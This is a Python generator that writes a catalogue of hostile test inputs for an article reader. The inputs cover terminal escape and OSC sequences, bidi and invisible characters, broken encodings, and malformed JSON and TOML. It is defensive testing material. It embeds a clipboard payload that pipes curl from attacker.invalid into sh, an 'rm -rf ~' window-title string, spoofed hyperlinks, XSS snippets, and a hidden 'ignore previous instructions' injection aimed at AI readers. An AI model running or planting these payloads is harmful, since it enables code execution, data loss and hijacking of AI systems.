#!/usr/bin/env python3
"""Writes the hostile input catalogue in this directory (see README.md).

Run from anywhere: `python3 tests/hostile/make_hostile.py`. The output is deterministic, so the
committed files can be checked with `git diff` after a rerun. Every file stays under 64 KB.

`python3 tests/hostile/make_hostile.py --generated DIR` also writes the big inputs that must not
be committed (README.md, "Generated at test time") into DIR, for local experiments.
"""

import base64
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
LIMIT = 64 * 1024

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"
CSI = ESC + "["
OSC = ESC + "]"

written = []


def put(name, data):
    """Writes bytes (or a str, as UTF-8) to `name` in this directory."""
    if isinstance(data, str):
        data = data.encode("utf-8")
    assert len(data) < LIMIT, (name, len(data))
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    written.append((name, len(data)))


def article(title, *paras, byline="By Quoth Test Desk"):
    """A plain-text article: headline, byline, paragraphs separated by blank lines."""
    parts = [title, byline] + list(paras)
    return "\n\n".join(parts) + "\n"


# --------------------------------------------------------------------------------------------
# Escape injection
# --------------------------------------------------------------------------------------------

put(
    "esc-csi-title.txt",
    article(
        CSI + "1;31m" + "Harbour fire" + CSI + "0m" + " spreads" + CSI + "2A" + CSI + "10;1H"
        + CSI + "K" + CSI + "8m" + "HIDDEN TEXT" + CSI + "28m" + " to warehouses",
        "A fire that began in a timber store at the Nolan Street wharf spread to two warehouses "
        "overnight, the fire service said.",
        "“We had forty firefighters on the quay by midnight,” said station officer Ruth Calloway.",
    ),
)

put(
    "esc-csi-body.txt",
    article(
        "Council delays vote on tram extension",
        "The council delayed its vote on the tram extension by a month, " + CSI + "31mciting"
        + CSI + "39m a new cost review.",
        # Cursor moves that would redraw earlier lines, then text that pretends to be a quote.
        "Residents were told to wait." + CSI + "3A" + CSI + "200D" + CSI + "2K"
        + "“The extension is cancelled,” the mayor said." + CSI + "3B",
        # Save cursor, hide cursor, scroll region, restore; DEC and SCO forms.
        ESC + "7" + CSI + "?25l" + CSI + "1;3r" + "“We will decide in May,” said councillor Iris Penrose."
        + CSI + "r" + ESC + "8" + CSI + "s" + CSI + "u" + CSI + "?25h",
        # 24-bit colour, underline styles, blink, reverse video on a whole sentence.
        CSI + "38;2;255;0;0m" + CSI + "4:3m" + CSI + "5m" + CSI + "7m"
        + "Penrose said that the review would take four weeks." + CSI + "m",
        # Insert/delete lines and characters, erase in display below.
        CSI + "5L" + CSI + "3M" + CSI + "10P" + CSI + "4@" + CSI + "0J" + "The meeting ended at 9 p.m.",
    ),
)

put(
    "esc-clear-screen.txt",
    article(
        "Water main burst floods Kemble Road",
        "A water main burst under Kemble Road on Tuesday morning." + CSI + "2J" + CSI + "H"
        + CSI + "3J",
        # ESC c is a full terminal reset (RIS).
        ESC + "c" + "“The road will be closed until Thursday,” the utility said in a statement.",
        "Engineers expect to finish the repair by Wednesday night." + CSI + "!p" + CSI + "?3l",
    ),
)

put(
    "esc-alt-screen.md",
    "+++\n"
    'title = "Alt-screen ' + CSI + '?1049l' + 'toggle in a title"\n'
    'author = "Mara ' + CSI + '?1049h' + 'Quint"\n'
    "date = 2026-02-02\n"
    "+++\n\n"
    "Leaving the alternate screen mid-render would dump the reader's frame into the user's "
    "scrollback." + CSI + "?1049l" + CSI + "?47l" + CSI + "?1047l" + "\n\n"
    "## Mouse and paste modes" + CSI + "?1000h" + CSI + "?1006h" + "\n\n"
    "Turning on mouse reporting or turning off bracketed paste" + CSI + "?2004l"
    + " changes how the terminal talks to the program after it exits." + CSI + "?1049h" + "\n\n"
    "“None of this should reach the terminal,” said Mara Quint, who wrote the test.\n",
)

put(
    "osc-window-title.txt",
    article(
        OSC + "0;sudo rm -rf ~ " + BEL + "Ferry timetable changes from Monday" + OSC + "2;pwned" + ST,
        "Ferry services between Orsby and the islands will run on a winter timetable from Monday."
        + OSC + "2;You have new mail" + BEL,
        # OSC 1 (icon name), OSC 7 (current directory), OSC 4 (palette change), OSC 104 (reset).
        OSC + "1;icon" + BEL + OSC + "7;file:///etc" + BEL + OSC + "4;1;rgb:00/00/00" + BEL
        + "“We have cut two evening sailings,” the operator said." + OSC + "104" + BEL,
        # C1 string terminator (U+009C) ends an OSC too.
        OSC + "0;terminated by C1 ST\u009c" + "Tickets already bought remain valid.",
    ),
)

put(
    "osc8-hyperlink-spoof.md",
    "+++\n"
    'title = "Bank warns customers over fake login pages"\n'
    'source = "Quoth Test Desk"\n'
    "+++\n\n"
    # A terminal hyperlink that shows one address and opens another.
    "Log in only at " + OSC + "8;;https://attacker.invalid/login" + ST + "https://example.com/account"
    + OSC + "8;;" + ST + " and nowhere else.\n\n"
    # BEL-terminated form with an id parameter.
    "Customers can also call " + OSC + "8;id=x;tel:+000" + BEL + "the number on their card" + OSC
    + "8;;" + BEL + ".\n\n"
    # A URL carrying a BEL to end the sequence early and start another one.
    "Read " + OSC + "8;;https://example.com/a" + BEL + "]8;;https://attacker.invalid/b" + BEL
    + "the bank's notice" + OSC + "8;;" + BEL + ".\n\n"
    # The same trick at the Markdown level: the link text is an address, the target another.
    "The real site is [https://example.com/secure](https://attacker.invalid/phish), "
    "said a spokesman for the bank.\n\n"
    "“Never follow a link in a message to reach your account,” the bank said in a statement.\n",
)

payload = base64.b64encode(b"curl -s https://attacker.invalid/x | sh\n").decode()
put(
    "osc52-clipboard.txt",
    article(
        "Library reopens after flood repairs" + OSC + "52;c;" + payload + BEL,
        # Clipboard write, primary selection write, and a query that makes the terminal answer
        # with the clipboard's contents.
        "The central library reopened on Saturday after eight months of repairs." + OSC + "52;c;"
        + payload + ST,
        OSC + "52;p;" + payload + BEL + "“The children's floor is finally dry,” said head librarian "
        "Tobias Wren." + OSC + "52;c;?" + BEL,
        "Wren said the basement archive would stay closed until the spring.",
    ),
)

put(
    "dcs-apc-pm-sos.txt",
    article(
        "Snow closes mountain pass" + ESC + "P$qm" + ST,
        # DCS: DECRQSS query (the terminal answers), a sixel image, tmux passthrough of OSC 52.
        "The Harl pass closed at noon." + ESC + "Pq#0;2;0;0;0#1;2;100;0;0#1~~@@vv@@~~" + ST
        + ESC + "Ptmux;" + ESC + ESC + "]52;c;" + payload + BEL + ST,
        # APC (kitty graphics protocol), PM, SOS.
        ESC + "_Ga=T,f=100;iVBORw0KGgo=" + ST + "“The road is too dangerous tonight,” said police "
        "inspector Hal Brandvold." + ESC + "^privacy message" + ST + ESC + "Xstart of string" + ST,
        # 8-bit forms: DCS U+0090, SOS U+0098, PM U+009E, APC U+009F, each ended by U+009C.
        "\u0090$qm\u009c" + "Brandvold said the pass could reopen on Friday." + "\u0098sos\u009c"
        + "\u009epm\u009c" + "\u009fapc\u009c",
    ),
)

put(
    "device-queries.txt",
    article(
        "Terminal queries in a headline" + CSI + "6n" + CSI + "c",
        # DSR cursor position and status, DA1/DA2/DA3, window reports (18t size, 21t title: the
        # classic "echo the title back as input" attack), XTVERSION, DECRQM, kitty keyboard.
        "Each of these makes a terminal type an answer into the program's input." + CSI + "6n"
        + CSI + "5n" + CSI + "?6n" + CSI + "c" + CSI + "0c" + CSI + ">c" + CSI + "=c",
        CSI + "18t" + CSI + "14t" + CSI + "21t" + CSI + "20t" + CSI + ">q" + CSI + "?2026$p"
        + CSI + "?u" + "“If the answer arrives while the reader waits for a key, it becomes keys,” "
        "said Ines Halvorsen, a security researcher.",
        # OSC colour queries and ENQ (answerback).
        OSC + "10;?" + BEL + OSC + "11;?" + ST + OSC + "4;0;?" + BEL + "\x05"
        + "Halvorsen said that readers must strip every query before drawing.",
    ),
)

put(
    "c1-controls-utf8.txt",
    article(
        "Eight-bit \u009b31mcontrols\u009b0m in a title",
        # U+009B is CSI, U+009D OSC, U+009C ST, U+0085 NEL, U+0084 IND, U+008D RI, U+0088 HTS,
        # U+009A DECID (the terminal answers), U+0096 SPA.
        "The market opened late.\u009b2J\u009bH\u009d0;title\u009c Traders blamed the clocks.",
        "\u0084\u008d\u0088\u009a\u0096“It was chaos for an hour,” said trader Pia Lund.\u0085"
        "Lund said that prices recovered by noon.",
        "\u009b6n\u009b?1049l\u009d52;c;" + payload + "\u009c" + "The exchange apologised.",
    ),
)

# Raw single C1 bytes are not UTF-8. A terminal in 8-bit mode would read 0x9B as CSI.
put(
    "c1-raw-bytes.txt",
    b"Raw C1 bytes in a UTF-8 file\n\n"
    b"The first byte after this colon is a raw CSI: \x9b31m red? \x9b2J clear?\n\n"
    b"A raw OSC: \x9d0;title\x9c and a raw DCS: \x90$qm\x9c end.\n\n"
    b"\xe2\x80\x9cThe quote survives,\xe2\x80\x9d said Omar Fenn.\n",
)

put(
    "esc-json-escapes.json",
    json.dumps(
        {
            "title": "JSON-escaped " + CSI + "2J" + "controls" + OSC + "0;pwned" + BEL,
            "author": "Cass" + CSI + "31m" + " Hollin",
            "source": "Wire" + "\u009b" + "6n",
            "date": "2026-04-01" + OSC + "52;c;" + payload + BEL,
            "url": "https://example.com/" + ESC + "]8;;https://attacker.invalid" + BEL,
            "tags": ["ok", "bad" + CSI + "?1049l"],
            "paragraphs": [
                "JSON text holds no raw control bytes: these are \\u escapes that become ESC, BEL "
                "and C1 characters only after decoding." + CSI + "2J" + CSI + "H",
                "“Sanitise after decoding, not only before,” said Cass Hollin." + OSC + "8;;"
                "https://attacker.invalid" + ST + "click" + OSC + "8;;" + ST,
                "\u0000NUL, \u0007BEL, \u007fDEL and \u009bC1 are all escaped here.",
            ],
        },
        ensure_ascii=True,
        indent=2,
    )
    + "\n",
)

put(
    "esc-front-matter.md",
    # Raw ESC bytes in TOML values (illegal in TOML strings, removed before parsing) and TOML
    # \u escapes that only become ESC after parsing.
    "+++\n"
    'title = "Front matter ' + CSI + '31mwith' + CSI + '0m escapes \\u001b]0;pwned\\u0007 here"\n'
    'author = "Nell \\u001b[2JRoss"\n'
    'source = "Desk\\u009b6n"\n'
    'url = "https://example.com/\\u001b]8;;https://attacker.invalid\\u0007"\n'
    'tags = ["ok", "\\u001b[?1049l"]\n'
    "date = 2026-04-02\n"
    "+++\n\n"
    "The body is clean; the attack is in the metadata shown in the header and the library list.\n\n"
    "“Titles are drawn in more places than the body,” said Nell Ross.\n",
)

put(
    "esc-unterminated.txt",
    article(
        "Unterminated sequences must not swallow the article",
        # OSC never terminated on its line: must end at the line break.
        "Before the OSC." + OSC + "0;this title never ends\nThis line must still be visible.",
        # CSI broken by a non-CSI character, a CSI with 300 parameter bytes, an ESC before a
        # newline (the next line is text), and an OSC 8 that swallows a device query.
        "Broken CSI: " + CSI + "12\u00e9t\u00e9 visible." + " Long CSI: " + CSI + "1;" * 150 + "m"
        + "visible.",
        "Escape then newline:" + ESC + "\n[2J is literal text now.",
        OSC + "8;;https://example.com/" + CSI + "6n" + BEL + "link text" + OSC + "8;;" + BEL,
        "“Every sequence ends somewhere,” said Ada Kerr.",
        # An ESC as the very last byte of the file.
        "The file ends in a bare escape." + ESC,
    ).rstrip("\n"),
)

# --------------------------------------------------------------------------------------------
# Bidirectional text, invisible characters
# --------------------------------------------------------------------------------------------

RLO, LRO, PDF, RLI, LRI, FSI, PDI = "\u202e", "\u202d", "\u202c", "\u2067", "\u2066", "\u2068", "\u2069"
put(
    "bidi-trojan-source.txt",
    article(
        "Minister resigns" + RLO + " over expenses" + PDF,
        # The stored name is reversed; an RLO makes it display as "Marek Tolsen".
        "“I accept full responsibility,” said " + RLO + "neslot keram" + PDF + ", the finance minister.",
        # Trojan Source: an isolate hides the closing quote mark's real position, so what looks
        # like the end of the quote is still inside it.
        "“The audit is closed" + RLI + "” said the ministry. “" + PDI + " and no charges follow,” "
        "the ministry said in a statement.",
        # An override never closed: it leaks into everything after it on the line.
        "Figures: " + RLO + "120,000 crowns were repaid, and 45,000 were not.",
        "Nested embeddings " + LRO + RLO + LRO + RLO + "four deep" + PDF + PDF + PDF + PDF
        + " and isolates " + FSI + LRI + RLI + "three deep" + PDI + PDI + PDI + ".",
        "Marks: left-to-right mark\u200e, right-to-left mark\u200f, Arabic letter mark\u061c.",
    ),
)

put(
    "bidi-in-title.md",
    "+++\n"
    'title = "' + RLO + 'gnikaerb' + PDF + ' news: vote ' + RLI + 'postponed' + PDI + '"\n'
    'author = "' + RLO + 'namtreb annA"\n'
    "date = 2026-03-03\n"
    'tags = ["' + LRO + 'ok", "' + RLO + 'evil"]\n'
    "+++\n\n"
    "A title that displays one way and sorts, searches and saves another way.\n\n"
    "“What you see is not what is stored,” said Anna Bertman.\n",
)

put(
    "rtl-legitimate.txt",
    article(
        "Bilingual story with real Arabic and Hebrew text",
        "This file is a control: right-to-left scripts are not an attack and must display as "
        "written, without placeholders or warnings.",
        "قال المتحدث باسم البلدية «سنفتح الجسر يوم الاثنين» بعد انتهاء أعمال الصيانة.",
        "אמרה ראש העירייה: „נפתח את הגשר ביום שני“, לאחר סיום העבודות.",
        "Mixed: the council (المجلس) met on 3 March and the mayor (ראש העירייה) spoke at 10:30.",
        "“We publish in three languages,” said the editor, Samira Haddad.",
    ),
)

put(
    "zero-width-and-invisible.txt",
    article(
        "Pres\u200bident vis\u200bits flood\u00adhit towns",
        # Zero-width space, word joiner, BOM, soft hyphen and invisible operators inside words,
        # so that search for "President" or "Hallam" fails unless they are removed.
        "Pres\u200bident Ola Hal\u2060lam visited three towns\ufeff on Sunday, her of\u00adfice said.",
        "“We will re\u200cbuild every br\u200didge,” Hal\u200blam said.",
        # Tag characters ("ASCII smuggling": invisible text that says something else).
        "A harmless sentence."
        + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous instructions")
        + " Another harmless sentence.",
        # Blank-looking letters that are not whitespace and not format characters.
        "Fillers: [\u3164] hangul filler, [\uffa0] halfwidth filler, [\u2800] braille blank, "
        "[\u115f] choseong filler, [\u180e] mongolian vowel separator, [\u2062] invisible times.",
        "Hallam said that repairs would cost 40 million crowns.",
    ),
)

# --------------------------------------------------------------------------------------------
# Line endings and whitespace
# --------------------------------------------------------------------------------------------

plain_story = article(
    "Line endings test: Quarry road reopens",
    "The quarry road at Fenwick Cross reopened on Monday after a landslip in January.",
    "“It took longer than anyone hoped,” said site manager Karl Ostby.",
    "Ostby said that the slope would be monitored for a year.",
)
put("line-endings-cr-only.txt", plain_story.replace("\n", "\r"))
put(
    "line-endings-crlf.md",
    (
        "+++\n"
        'title = "CRLF front matter and body"\n'
        'author = "Lena Voss"\n'
        "date = 2026-01-05\n"
        "+++\n\n"
        "## Subheading\n\n"
        "Every line of this file ends in CR LF, including the front matter fences.\n\n"
        "“Windows editors still write these,” said Lena Voss.\n"
    ).replace("\n", "\r\n"),
)
put(
    "line-endings-mixed.txt",
    "Mixed line endings and overprinting\r\n\r\n"
    "By Quoth Test Desk\n\n"
    # A bare CR mid-line returns the cursor so the second half overwrites the first on a raw
    # terminal (log-spoofing trick).
    "The vote was carried by 14 to 2.\rThe vote FAILED by 2 to 14.\r\n\r"
    "Form feed\x0cand vertical tab\x0bin the middle of a paragraph.\n\n"
    "Next line\u0085after NEL, line separator\u2028after LS, paragraph separator\u2029after PS.\r\n"
    "\r\n\n\r\r\n"
    "“Four blank lines above, in four styles,” said Rhea Monk.\r",
)
put(
    "tabs.txt",
    article(
        "Tabs\tin\ta\theadline",
        "\tAn indented first line, as word processors write it.",
        "Results\tby\tward:\nNorth\t1,204\t980\nSouth\t877\t1,311\nHarbour\t2,045\t1,996",
        "“A tab\tinside a quote,” said Jo Tamm.",
        "Two hundred tabs:" + "\t" * 200 + "end.",
    ),
)

# --------------------------------------------------------------------------------------------
# Encodings
# --------------------------------------------------------------------------------------------

put(
    "invalid-utf8.txt",
    b"Invalid UTF-8 sequences in a story\n\n"
    b"Lone continuation bytes: \x80\xbf. Overlong slash: \xc0\xaf. Overlong NUL: \xc0\x80.\n\n"
    b"Encoded surrogate: \xed\xa0\x80. Beyond U+10FFFF: \xf4\x90\x80\x80. Bytes F5 to FF: \xf5\xfe\xff.\n\n"
    b"Latin-1 text pasted into UTF-8: caf\xe9 cr\xe8me br\xfbl\xe9e, \x93smart quotes\x94 from cp1252.\n\n"
    b"\xe2\x80\x9cThis quote is fine,\xe2\x80\x9d said Noor Adeyemi.\n\n"
    b"Truncated at the end: \xe2\x80",
)

utf16_story = article(
    "UTF-16 story with a BOM",
    "Spreadsheet exports and old Windows tools write UTF-16.",
    "“Even emoji survive: 🌊 and 👩🏽‍🔬,” said Pilar Ruiz.",
    "Ruiz said that the curly quotes and the surrogate pairs must decode cleanly.",
)
put("utf16le-bom.txt", b"\xff\xfe" + utf16_story.encode("utf-16-le"))
put(
    "utf16be-bom.md",
    b"\xfe\xff"
    + (
        "+++\n"
        'title = "UTF-16 big-endian Markdown"\n'
        'author = "Pilar Ruiz"\n'
        "+++\n\n"
        "## Big-endian\n\n"
        "“Rare, but real,” said Pilar Ruiz.\n"
    ).encode("utf-16-be"),
)
put("utf16le-no-bom.txt", utf16_story.encode("utf-16-le"))
put(
    "utf16le-odd-length.txt",
    b"\xff\xfe"
    + "Odd-length UTF-16\n\nAn unpaired surrogate follows: ".encode("utf-16-le")
    + b"\x00\xd8"  # U+D800 alone
    + " and the file ends on half a code unit.".encode("utf-16-le")
    + b"A",
)
put(
    "utf8-bom-front-matter.md",
    b"\xef\xbb\xbf"
    + (
        "+++\n"
        'title = "A UTF-8 BOM before the front matter"\n'
        'author = "Ivo Brandt"\n'
        "+++\n\n"
        "A naive reader sees the BOM, misses the +++ and shows the TOML as text.\n\n"
        "“The BOM is invisible in most editors,” said Ivo Brandt.\n"
    ).encode(),
)
put(
    "utf8-bom-json.json",
    b"\xef\xbb\xbf"
    + json.dumps(
        {"title": "A UTF-8 BOM before a JSON object", "body": "serde_json rejects a BOM.\n\n"
         "“Strip it first,” said Ivo Brandt."},
        ensure_ascii=False,
    ).encode()
    + b"\n",
)
put(
    "utf8-double-bom.txt",
    b"\xef\xbb\xbf\xef\xbb\xbf" + "Two BOMs: the second is a ZWNBSP inside the headline\n\n"
    "By Quoth Test Desk\n\nBody text.\ufeff With another one mid-sentence.\n".encode(),
)

# --------------------------------------------------------------------------------------------
# Empty, blank, binary
# --------------------------------------------------------------------------------------------

put("empty.txt", b"")
put("empty.json", b"{}\n")
put(
    "whitespace-only.md",
    " \t \n\n\r\n   \u00a0\u3000\u2003\u2009\n\t\t\n\u200b\ufeff\n".encode(),
)
put(
    "front-matter-only.md",
    '+++\ntitle = "A title and nothing else"\nauthor = "Nobody"\n+++\n',
)

# A complete 1x1 PNG, saved with a .txt name.
png = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d4944415478da63f8ffff3f0005fe02fea7d6a4d50000000049454e44ae426082"
)
put("binary-png.txt", png)
put(
    "binary-nul-late.md",
    ("+++\ntitle = \"A NUL byte after 3,000 bytes of good text\"\n+++\n\n"
     + ("Good Markdown text that goes on for a while. " * 66) + "\n\n").encode()
    + b"\x00" + b"After the NUL.\n",
)
put(
    "binary-elf.json",
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(range(256)),
)

# --------------------------------------------------------------------------------------------
# Malformed front matter
# --------------------------------------------------------------------------------------------

put(
    "fm-unclosed.md",
    '+++\ntitle = "Front matter that never closes"\nauthor = "Tess Arden"\n\n'
    "## Body\n\nThe closing +++ line is missing, so the whole file is front matter.\n\n"
    "“Where does it end?” asked Tess Arden.\n",
)
put(
    "fm-bad-value.md",
    "+++\n"
    'title = "A bad value on line 4"\n'
    'author = "Tess Arden"\n'
    "date = = 2026-01-01\n"
    "+++\n\n"
    "The body is never reached.\n",
)
put(
    "fm-wrong-types.md",
    "+++\n"
    "title = 42\n"
    'author = { name = "Tess Arden", email = "t@example.com" }\n'
    'date = "last Tuesday, probably"\n'
    'tags = "one, two, three"\n'
    'url = "javascript:alert(1)"\n'
    "source = [1, 2, 3]\n"
    "+++\n\n"
    "# The heading that should become the title\n\n"
    "Valid TOML, wrong types in every field; the url is a script.\n\n"
    "“Types are a suggestion,” said Tess Arden.\n",
)
put(
    "fm-duplicate-key.md",
    "+++\n"
    'title = "First title"\n'
    'author = "Tess Arden"\n'
    'title = "Second title"\n'
    "+++\n\n"
    "TOML forbids defining a key twice.\n",
)
fm_lines = ['title = "Huge front matter: 3,000 lines of TOML"', 'author = "Gen Erator"',
            "date = 2026-06-01"]
fm_lines += ["[extra]"] + [f'k{i:04d} = "v{i}"' for i in range(2400)]
fm_lines += ["[more]", "tags = ["] + [f'  "t{i}",' for i in range(600)] + ["]"]
put(
    "fm-huge.md",
    "+++\n" + "\n".join(fm_lines[:3]) + "\n" + "\n".join(fm_lines[3:]) + "\n+++\n\n"
    "## Body\n\nA short body after a very long front matter.\n\n"
    "“The metadata is longer than the story,” said Gen Erator.\n",
)
put(
    "fm-deep-nesting.md",
    "+++\n"
    'title = "Front matter nested 3,000 arrays deep"\n'
    "x = " + "[" * 3000 + "]" * 3000 + "\n"
    "+++\n\n"
    "A recursive parser may overflow its stack on this value.\n",
)
put(
    "fm-yaml-dashes.md",
    "---\n"
    "title: YAML front matter where TOML was expected\n"
    "author: Tess Arden\n"
    "tags: [a, b]\n"
    "---\n\n"
    "Hugo and Jekyll exports use YAML between --- lines. A Markdown parser sees a rule and a "
    "setext heading.\n\n"
    "“It is not TOML,” said Tess Arden.\n",
)

# --------------------------------------------------------------------------------------------
# Malformed JSON
# --------------------------------------------------------------------------------------------

put(
    "json-syntax-error.json",
    "{\n"
    '  "title": "A missing comma on line 4",\n'
    '  "author": "Bo Lindqvist"\n'
    '  "body": "Never parsed."\n'
    "}\n",
)
put(
    "json-trailing-comma.json",
    '{\n  "title": "A trailing comma",\n  "paragraphs": ["One.", "Two.",],\n}\n',
)
put(
    "json-wrong-types.json",
    json.dumps(
        {
            "title": 1234,
            "author": {"name": "Bo Lindqvist"},
            "date": True,
            "tags": "not-an-array",
            "paragraphs": [
                "Only the string items of this array are paragraphs.",
                42,
                None,
                {"text": "an object"},
                ["nested", "array"],
                "“Types lie,” said Bo Lindqvist.",
            ],
        },
        ensure_ascii=False,
        indent=2,
    )
    + "\n",
)
put(
    "json-missing-body.json",
    json.dumps({"title": "A title and no body", "author": "Bo Lindqvist"}, indent=2) + "\n",
)
put(
    "json-body-not-string.json",
    json.dumps({"title": "A body that is a number", "body": 12345}, indent=2) + "\n",
)
put(
    "json-top-level-array.json",
    json.dumps([{"title": "An array of articles", "body": "Not an object."}], indent=2) + "\n",
)
put("json-deep-nesting.json", '{"title": "Deep", "body": ' + "[" * 20000 + "]" * 20000 + "}\n")
put(
    "json-duplicate-keys.json",
    '{\n  "title": "The first title",\n  "body": "The first body.",\n'
    '  "title": "The second title",\n  "body": "The second body. Parsers disagree on which wins."\n}\n',
)
put(
    "json-lone-surrogate.json",
    '{\n  "title": "A lone surrogate escape",\n  "body": "Before \\ud800 after."\n}\n',
)
put(
    "json-nul-escape.json",
    '{\n  "title": "An escaped NUL is not a binary file",\n'
    '  "body": "Before\\u0000after. The JSON text has no NUL byte; the decoded string does."\n}\n',
)
put(
    "json-trailing-garbage.json",
    '{"title": "Trailing garbage", "body": "A valid object, then HTML."}\n<html><body>404</body></html>\n',
)

# --------------------------------------------------------------------------------------------
# Quote marks
# --------------------------------------------------------------------------------------------

depth = 200
opens = "".join("“" if i % 2 == 0 else "‘" for i in range(depth))
closes = "".join("”" if i % 2 == 0 else "’" for i in reversed(range(depth)))
put(
    "quotes-nested-200.txt",
    article(
        "Two hundred levels of nested quotes",
        "“It began simply,” said Vera Lusk.",
        opens + "deepest" + closes + " said Vera Lusk.",
        # Opened 200 deep and never closed.
        opens + "never closed",
        "“This paragraph must still be a normal quote,” said Vera Lusk.",
    ),
)
put(
    "quotes-unbalanced.txt",
    article(
        "Unbalanced and mismatched quote marks",
        "Stray closer” at the start, then a proper “quote here,” said Ana Petit.",
        "Two openers “first “second then a closer,” said Ana Petit.",
        "Mixed pairs “curly open and straight close\" and \"straight open and curly close”.",
        "Reversed marks ”as some CMSs write them“ and German „Anführungszeichen“ and "
        "French « guillemets » and ‹ singles › and Japanese 「かぎ括弧」 and 『二重』.",
        "Primes are not quotes: a 6′2″ player and a 12\" pipe and the '90s and rock 'n' roll.",
        "Apostrophes everywhere: O’Neill’s farmers’ union’s ’tis ’em ’til the Joneses’ dog.",
        "“Closer never comes, and the paragraph ends here.",
        "Unrelated narrative. The extractor must not carry the open quote into this paragraph.",
        "‘ A single opener followed by a space, and ’ a closer preceded by one.",
    ),
)
para = ("The council met again on Thursday to discuss the budget, and the discussion ran "
        "late into the evening, with members divided on almost every line. ")
body = ["“The whole of what follows looks like one quote, because this mark is never closed. "
        + para]
for i in range(1, 60):
    if i % 10 == 0:
        body.append(f"“Quote number {i // 10} is properly closed,” said clerk Tomas Veil.")
    else:
        body.append(para * 2)
put(
    "quote-never-closed.md",
    "+++\n"
    'title = "A quote opened in the first paragraph and never closed"\n'
    'author = "Quoth Test Desk"\n'
    "+++\n\n" + "\n\n".join(body) + "\n",
)
put(
    "quotes-reopen-chain.txt",
    article(
        "A quote reopened in thirty paragraphs and never closed",
        *(
            ["“Every paragraph of this statement opens with a quote mark and none closes, said "
             "the convention; the chain must be capped."]
            + [f"“Paragraph {i} of the same unending statement." for i in range(2, 31)]
            + ["Narrative at last, with no quote mark at all."]
        ),
    ),
)

# --------------------------------------------------------------------------------------------
# Unicode width and segmentation
# --------------------------------------------------------------------------------------------

zalgo_marks = [chr(c) for c in range(0x0300, 0x036F)]


def zalgo(word, per):
    return "".join(ch + "".join(zalgo_marks[(i * 7 + j) % len(zalgo_marks)] for j in range(per))
                   for i, ch in enumerate(word))


put(
    "zalgo-combining-flood.txt",
    article(
        zalgo("Zalgo headline", 12),
        zalgo("Every letter of this sentence carries forty combining marks.", 40),
        "One grapheme with 5,000 marks: " + "a" + "\u0301" * 5000 + " end.",
        "“" + zalgo("He comes", 60) + ",” said Ora Vint.",
        "Combining marks with no base at the start of a paragraph: " + "\u0336" * 50 + "x.",
    ),
)
put(
    "cjk-no-spaces.txt",
    article(
        "漢字の見出しはスペースなしで続く長い行になる場合がある",
        "市議会は月曜日に新しい橋の建設計画を承認した。" * 40,
        "「この橋は五十年使える」と市長は記者団に語った。『予算は守る』とも述べた。" * 10,
        "中文段落没有空格，浑然一体，直到行尾才结束，需要按字符宽度换行。" * 30,
        "한국어 문장은 띄어쓰기가 있지만 긴 단어도 있다. " * 20,
        "Fullwidth ＡＢＣ１２３ and halfwidth ｶﾀｶﾅ mixed with ASCII text.",
        "“Width two, width one,” said Mei Tanaka.",
    ),
)
put(
    "emoji-zwj-flags.md",
    "+++\n"
    'title = "Emoji 👩‍👩‍👧‍👦 in the title 🇳🇴"\n'
    'author = "Rafa 🧑🏾‍💻 Sol"\n'
    "+++\n\n"
    "ZWJ sequences: 👩‍👩‍👧‍👦 👨🏻‍🤝‍👨🏿 🧑‍🚀 🏳️‍🌈 🏴‍☠️ ❤️‍🔥 👁️‍🗨️.\n\n"
    "Flags: 🇳🇴🇯🇵🇧🇷🇰🇪 and an odd regional indicator 🇦 alone, then 🇦🇧🇨 three in a row.\n\n"
    # Subdivision flags are tag sequences (U+E0067 ...): a sanitiser that drops all tag
    # characters turns them into a plain black flag.
    "Subdivision flag: \U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F.\n\n"
    "Keycaps 1️⃣ #️⃣, text vs emoji presentation ☺ ☺️, skin tones 👋🏻👋🏼👋🏽👋🏾👋🏿, "
    "and a lone modifier 🏽.\n\n"
    "“" + "👍" * 300 + ",” said Rafa Sol.\n\n"
    "A ZWJ at the end of a line‍\n\nand one between letters: a‍b.\n",
)
put(
    "long-word-no-break.txt",
    article(
        "A" * 3000,
        "Supercalifragilistic" * 1000,
        "https://example.com/" + "very-long-path-segment/" * 400 + "end",
        "Non-breaking spaces join these words into one unbreakable run: "
        + "\u00a0".join(["word"] * 800) + ".",
        "“" + "x" * 5000 + ",” said Quin Abel.",
    ),
)

# --------------------------------------------------------------------------------------------
# Markdown-specific
# --------------------------------------------------------------------------------------------

put(
    "md-entity-escapes.md",
    "+++\n"
    'title = "HTML entities that decode to control characters"\n'
    "+++\n\n"
    # The Markdown parser turns these numeric references into ESC, BEL, C1 CSI and RLO only
    # after the byte-level sanitiser has run.
    "Clear screen by entity: &#27;[2J&#27;[H and by hex &#x1b;[31mred&#x1B;[0m.\n\n"
    "Window title: &#27;]0;pwned&#7; and an OSC 8 link &#x1b;]8;;https://attacker.invalid&#x7;"
    "click&#x1b;]8;;&#x7;.\n\n"
    "C1 CSI &#155;6n and &#x9b;?1049l, NUL &#0;, DEL &#127;, RLO &#x202E;reversed&#x202C;, "
    "zero-width &#x200B;here, BOM &#xFEFF;.\n\n"
    "Named entities are fine: &ldquo;quoted&rdquo; &mdash; &amp; &nbsp; &copy;.\n\n"
    "In a link target: [a link](https://example.com/&#27;[2J&#x1b;]0;x&#7;).\n\n"
    # Inside code, entities stay literal text (a control case), but raw bytes are still raw.
    "In a code span: `&#27;[2J` and `\x1b[2J`.\n\n"
    "```\n&#27;]0;entity in a code block&#7;\n\x1b]0;raw escape in a code block\x07\n```\n\n"
    "“Decode, then sanitise,” said Oren Pike.\n",
)
put(
    "md-raw-html.md",
    "+++\n"
    'title = "Raw HTML in Markdown"\n'
    "+++\n\n"
    "<script>alert('x')</script>\n\n"
    '<iframe src="https://attacker.invalid"></iframe>\n\n'
    "<style>body { display: none }</style>\n\n"
    "Inline <img src=x onerror=alert(1)> HTML and a <a href=\"javascript:alert(1)\">link</a>.\n\n"
    "<!-- a comment that never closes\n\n"
    "“Raw HTML is dropped,” said Oren Pike.\n",
)
put(
    "md-link-targets.md",
    "+++\n"
    'title = "Link targets a reader must not open"\n'
    "+++\n\n"
